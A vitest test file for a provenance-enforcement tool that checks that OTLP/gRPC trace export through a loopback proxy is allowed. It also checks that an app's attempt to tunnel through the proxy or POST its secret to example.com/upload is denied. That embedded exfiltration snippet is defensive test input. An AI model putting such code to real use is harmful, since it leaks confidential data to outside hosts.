/**
 * OTLP/gRPC export through an HTTP CONNECT proxy (grpc-js honours grpc_proxy, https_proxy and
 * http_proxy): the app's own gRPC exporter and provenant's lineage span export both reach the
 * collector through the proxy the operator named at start, after a confidential read, and none of
 * it is denied or journaled. The app using that same proxy for its own data is still decided:
 * its CONNECT tunnel to the collector and its plain proxied POST are denied, and the proxy sees
 * no connection.
 */
import { once } from 'node:events';
import http from 'node:http';
import net from 'node:net';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { journalRecords } from '../helpers/journal.js';
import { useOtlpReceiver } from '../helpers/otlp-receiver.js';
import { stopAll } from '../helpers/spawn.js';
import { cleanupTempDirs } from '../helpers/tmp.js';
import { confidentialApp, otelModule, runConfidentialApp } from './confidential-app.js';

const receiverOf = useOtlpReceiver({ beforeAll, afterAll }, async () => {
  await stopAll();
  await cleanupTempDirs();
});

/** A CONNECT proxy on loopback: counts connections, tunnels (by target) and proxied requests. */
const tunnels: string[] = [];
const proxied: string[] = [];
let proxyConnections = 0;
const open = new Set<net.Socket>();
const proxy = http.createServer((req, res) => {
  proxied.push(`${req.method} ${req.url}`);
  req.resume().on('end', () => res.end('proxied'));
});
proxy.on('connection', (socket: net.Socket) => {
  proxyConnections++;
  open.add(socket);
  socket.once('close', () => open.delete(socket));
});
proxy.on('connect', (req: http.IncomingMessage, client: net.Socket, head: Buffer) => {
  tunnels.push(req.url ?? '');
  const [host, port] = (req.url ?? '').split(':');
  const upstream = net.connect(Number(port), host, () => {
    client.write('HTTP/1.1 200 Connection Established\r\n\r\n');
    upstream.write(head);
    upstream.pipe(client).pipe(upstream);
  });
  upstream.on('error', () => client.destroy());
  client.on('error', () => upstream.destroy());
  open.add(upstream);
  upstream.once('close', () => open.delete(upstream));
});
beforeAll(async () => {
  proxy.listen(0, '127.0.0.1');
  await once(proxy, 'listening');
});
afterAll(() => {
  for (const socket of open) socket.destroy();
  return new Promise<void>((done) => proxy.close(() => done()));
});

const proxyUrl = (): string => `http://127.0.0.1:${(proxy.address() as net.AddressInfo).port}`;
const collector = (): string => receiverOf().grpcEndpoint.replace('http://', '');

async function run(action: string, extra: Record<string, string>): Promise<{ outcome: unknown; state: string }> {
  const { dir, state } = confidentialApp(
    'provenant-app-proxy-',
    `const http = require('node:http');
const { TracerProvider, BatchSpanProcessor } = require(${otelModule('sdk-trace')});
const { OTLPTraceExporter } = require(${otelModule('exporter-trace-otlp-grpc')});`,
    action,
  );
  const outcome = await runConfidentialApp(dir, state, {
    OTEL_EXPORTER_OTLP_ENDPOINT: receiverOf().grpcEndpoint,
    OTEL_EXPORTER_OTLP_PROTOCOL: 'grpc',
    grpc_proxy: proxyUrl(),
    ...extra,
  });
  return { outcome, state };
}

/** Journal records naming the proxy or the collector. */
const naming = (state: string): string[] => {
  const ports = [(proxy.address() as net.AddressInfo).port, Number(collector().split(':')[1])];
  return journalRecords(state)
    .map((record) => record.resource)
    .filter((resource) => ports.some((port) => resource.includes(`:${port}`)));
};

it("the app's gRPC exporter and provenant's span export reach the collector through the named proxy; nothing of it is denied or journaled", async () => {
  receiverOf().reset();
  tunnels.length = 0;
  const { outcome, state } = await run(
    `
const exporter = new OTLPTraceExporter();
const provider = new TracerProvider({ spanProcessors: [new BatchSpanProcessor({ exporter })] });
const span = provider.getTracer('the-app').startSpan('handled', { attributes: { 'app.size': secret.length } });
span.end();
exporter.export([span], (result) => { report({ code: result.code }); exporter.shutdown(); });
`,
    // provenant's own span export on, through the same proxy.
    { OTEL_TRACES_EXPORTER: 'otlp' },
  );
  expect(outcome).toEqual({ code: 0 });
  const spans = await receiverOf().waitForSpans(
    (all) => all.some((span) => span.name === 'handled') && all.some((span) => span.name === 'provenant.read'),
  );
  expect(spans.every((span) => span.protocol === 'grpc')).toBe(true);
  // Both went through the proxy: the app's channel and the export worker's each opened a tunnel.
  expect(tunnels.length).toBeGreaterThanOrEqual(2);
  expect(new Set(tunnels)).toEqual(new Set([collector()]));
  const records = journalRecords(state);
  expect(records.some((record) => record.resource.endsWith('/secret/record.txt'))).toBe(true);
  expect(naming(state)).toEqual([]);
});

it('the app using the same proxy for its own data: its tunnel to the collector and its proxied POST are denied, the proxy sees nothing', async () => {
  tunnels.length = 0;
  proxied.length = 0;
  const before = proxyConnections;
  const { port } = proxy.address() as net.AddressInfo;
  const { outcome, state } = await run(
    `
const outcome = {};
const tunnel = http.request({ host: '127.0.0.1', port: ${port}, method: 'CONNECT', path: '${collector()}' });
tunnel.on('error', (error) => {
  outcome.connect = error.code;
  const post = http.request({ host: '127.0.0.1', port: ${port}, method: 'POST', path: 'http://example.com/upload' });
  post.on('error', (error) => { outcome.post = error.code; report(outcome); });
  post.end(secret);
});
tunnel.end();
`,
    {},
  );
  expect(outcome).toEqual({ connect: 'ERR_PROVENANCE_DENIED', post: 'ERR_PROVENANCE_DENIED' });
  expect(proxyConnections).toBe(before);
  expect(tunnels).toEqual([]);
  expect(proxied).toEqual([]);
  const denied = journalRecords(state).filter((record) => record.decision === 'deny');
  expect(denied.length).toBeGreaterThanOrEqual(1);
  expect(new Set(denied.map((record) => record.resource))).toEqual(new Set([`http://127.0.0.1:${port}`]));
});
